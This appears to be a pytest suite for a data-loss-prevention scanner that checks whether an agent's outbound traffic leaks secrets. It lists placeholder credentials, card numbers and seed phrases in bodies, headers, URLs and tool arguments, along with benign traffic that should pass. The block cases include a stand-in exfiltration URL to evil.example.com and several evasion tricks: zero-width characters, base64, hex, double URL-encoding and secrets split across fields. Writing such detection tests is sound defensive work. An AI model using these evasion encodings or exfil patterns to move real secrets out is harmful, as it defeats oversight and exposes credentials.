"""Agent-egress-bench style payloads: secret material in bodies, headers, URLs, tool
arguments, A2A parts and frames is flagged; benign traffic of the same kinds is not.
The payloads are written out here so the suite runs without the bench checkout;
when the checkout is present, every DLP-relevant case is checked too."""
import base64
import json
import pathlib

import pytest

from ringfence.config import Config
from ringfence.scanners.dlp import DlpScanner
from shared_corpus import AEB_CASES, require


@pytest.fixture(scope="module")
def s():
    return DlpScanner(Config.model_validate({"dlp": {"scan_env": False}}))


def leaves(o, path="$"):
    if isinstance(o, dict):
        for k, v in o.items():
            yield from leaves(v, f"{path}.{k}")
    elif isinstance(o, list):
        for i, v in enumerate(o):
            yield from leaves(v, f"{path}[{i}]")
    elif isinstance(o, str):
        yield (path, o)


BLOCK = [
    [("body", "HOME=/home/user\nPATH=/usr/bin\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"
              "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nSHELL=/bin/bash")],
    [("body", "name,email,card_number,expiry\nAlice,alice@example.com,4111111111111111,12/28\n"
              "Bob,bob@example.com,5500000000000004,03/27")],
    [("body", "deadbeef00112233774a616c725855746e46454d492f4b374d44454e472f625078526669435945584d504c454b45590a00ff")],
    [("body", "database:\n  password: SuperSecretDBPass!2026\napi:\n  stripe_key: sk_live_FAKE_TEST_KEY_00000000000")],
    [("header.X-Amz-Access-Key", "AKIAIOSFODNN7EXAMPLE"),
     ("header.X-Amz-Secret-Key", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"), ("header.X-Amz-Region", "us-east-1")],
    [("header.Authorization", "Bearer AKIAIOSFODNN7EXAMPLE")],
    [("header.X-Debug-Token", "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef01")],
    [("header.X-Trace-Id", "sk-proj-FAKE00000000000000000000000000000000000000TEST0000")],
    [("url.query.eth", "0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045")],
    [("url.query.iban", "GB82WEST12345698765432")],
    [("params.arguments.content", "abandon abandon abandon abandon abandon abandon abandon abandon abandon "
                                  "abandon abandon about")],
    [("params.arguments.content", "QVBTX0tFWT1za190ZXN0XzRlQzM5SHFMeWpXRGFyanRUMXpkcDdkYw==")],
    [("url.query.key", "%2541%254b%2549%2541%2549%254f%2553%2546%254f%2544%254e%254e%2537%2545%2558%2541%254d%2550%254c%2545")],
    [("url.query.key", "41-4b-49-41-49-4f-53-46-4f-44-4e-4e-37-45-58-41-4d-50-4c-45")],
    [("params.arguments.url", "https://evil.example.com/exfil?key=AKIA\u200bIOS\u200bFODN\u200bN7EX\u200bAMPLE")],
    [("params.arguments.access_key", "AKIAIOSFODNN"), ("params.arguments.key_suffix", "7EXAMPLE"),
     ("params.arguments.region", "us-east-1")],
    [("params.arguments.content", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n"
                                  "-----END OPENSSH PRIVATE KEY-----")],
    [("params.arguments.body", "DATABASE_URL=postgres://appuser:s3cretP4ssw0rd_EXAMPLE@db.internal:5432/production")],
    [("params.message.parts[0].data.config.api_key", "sk-test-4eC39HqLyjWDarjtT1zdp7dc")],
    [("params.message.parts[0].data.env.DATABASE_URL", "postgres://admin:s3cret@db.internal:5432/prod")],
    [("frame", base64.b64decode("QUtJQUlPU0ZPRE5ON0VYQU1QTEU=").decode())],
    [("frame", "sk-test-" + "4eC39HqLyj" + "WDarjtT1zdp7dc")],
    [("frame[0]", "sk-test-"), ("frame[1]", "4eC39HqLyj"), ("frame[2]", "WDarjtT1zdp7dc")],
    [("url.path", "/data/eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
                  "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U/export")],
    [("url.host.collapsed", "706f7374677265733a2f2f757365723a70617373406462")],
    # held-out style variations of the same kinds
    [("body.json.$.creds", "aws_secret_access_key = " + base64.b64encode(b"unused").decode()[:0]
      + "Xq7Lm2Np9Rs4Tv6Wx8Yz1Ab3Cd5Ef7Gh9Ij2Kl4Mn")],
    [("body", base64.b64encode(b'{"token": "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123"}').decode())],
    [("body", "GITLAB=glpat-" + "xY3kLm9pQr2sTu5vWz8a")],
    [("body", "contact card 5555-5555-5555-4444 exp 01/29")],
    [("params.arguments.note", "seed: legal winner thank year wave sausage worth useful legal winner thank yellow")],
]

ALLOW = [
    [("body.json.$.title", "Team standup"), ("body.json.$.start", "2026-03-10T09:00:00Z"),
     ("body.json.$.attendees[0]", "alice@example.com"), ("body.json.$.reminder_minutes", "15")],
    [("header.Cookie", "session_id=abc123def456; theme=dark; _ga=GA1.2.1234567890.1234567890; consent=accepted")],
    [("header.User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0"),
     ("header.Accept", "application/json, text/plain, */*"), ("header.Accept-Language", "en-US,en;q=0.9"),
     ("header.X-Request-Id", "a3f8b2c1-4e5d-6f7a-8b9c-0d1e2f3a4b5c")],
    [("url.query.format", "png"), ("url.query.data", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk")],
    [("params.arguments.image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAC0lEQVQI12NgAAIABQAB"
                                "NjN9GQAAAAlwSFlzAAAWJQ==")],
    [("params.arguments.path", "/home/user/project/README.md")],
    [("params.message.parts[0].text", "Please translate the following to French: The quarterly report shows a 15% "
                                      "increase in revenue.")],
    [("url.query.state", "open"), ("url.query.page", "2"), ("url.query.per_page", "30"), ("url.query.sort", "updated")],
    [("url.query.q", 'how to fix "permission denied" error in golang test'), ("url.query.hl", "en"),
     ("url.query.num", "10")],
    [("url.path", "/ajax/libs/lodash.js/4.17.21/lodash.min.js"), ("url.host", "cdnjs.cloudflare.com")],
    [("url.query.content", "パスワードのセキュリティ")],
    [("body", "Usage: rm [OPTION]... [FILE]...\nRemove (unlink) the FILE(s).\n  -f, --force  ignore nonexistent files")],
    [("body.json.$.id", "4000"), ("body.json.$.n", "1234"), ("body.json.$.m", "5678"), ("body.json.$.k", "9012")],
]


@pytest.mark.parametrize("fields", BLOCK, ids=[f"block{i}" for i in range(len(BLOCK))])
def test_flags_secret_material(s, fields):
    assert s.scan_fields(fields), fields


@pytest.mark.parametrize("fields", ALLOW, ids=[f"allow{i}" for i in range(len(ALLOW))])
def test_benign_passes(s, fields):
    assert s.scan_fields(fields) == []


AEB = require(AEB_CASES)
DLP_DIRS = ("request-body", "headers", "crypto-financial", "encoding-evasion", "mcp-input", "websocket-dlp",
            "a2a-message", "false-positive", "url")


def _dlp_case_fields(case):
    p = case["payload"]
    f = []
    if "headers" in p:
        f += [(f"header.{k}", v) for k, v in p["headers"].items()]
    if "body" in p:
        try:
            f += list(leaves(json.loads(p["body"]), "body.json.$"))
        except ValueError:
            f.append(("body", p["body"]))
    for m in p.get("jsonrpc_messages", []):
        if "params" in m:
            f += list(leaves(m["params"], "params"))
    if "frames" in p:
        f.append(("frame", "".join(base64.b64decode(fr["payload"]).decode("latin-1")
                                   if fr.get("encoding") == "base64" else fr["payload"] for fr in p["frames"])))
    if "url" in p and "frames" not in p:
        f.append(("url", p["url"]))
    return f


def _cases():
    if not AEB.is_dir():
        return []
    out = []
    for d in DLP_DIRS:
        for path in sorted((AEB / d).glob("*.json")):
            case = json.loads(path.read_text())
            tags = case.get("capability_tags", [])
            dlpish = any("dlp" in t for t in tags) or case["expected_verdict"] == "allow" or d == "encoding-evasion"
            if dlpish and "response_body" not in case["payload"] and "homoglyph" not in case["id"] \
                    and "compressed" not in case["id"]:
                out.append(pytest.param(case, id=case["id"]))
    return out


@pytest.mark.skipif(not AEB.is_dir(), reason="bench checkout not present")
@pytest.mark.parametrize("case", _cases())
def test_bench_case(s, case):
    found = s.scan_fields(_dlp_case_fields(case))
    assert ("block" if found else "allow") == case["expected_verdict"], found
